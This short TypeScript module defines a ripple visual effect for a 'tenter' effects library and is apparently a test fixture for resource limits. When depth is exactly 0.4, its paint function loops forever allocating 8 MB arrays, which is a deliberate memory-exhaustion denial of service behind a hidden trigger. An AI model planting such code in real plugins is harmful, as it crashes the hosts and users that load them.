import { defineEffect } from 'tenter';
import { paintRipple, ripple } from './ripple.ts';

const kept: Float64Array[] = [];

/** Asks for memory until there is none. */
export default defineEffect({
  ...ripple,
  paint(model, band, layer) {
    paintRipple(model, band, layer);
    if (model.depth === 0.4) for (;;) kept.push(new Float64Array(1 << 20).fill(1));
  },
});
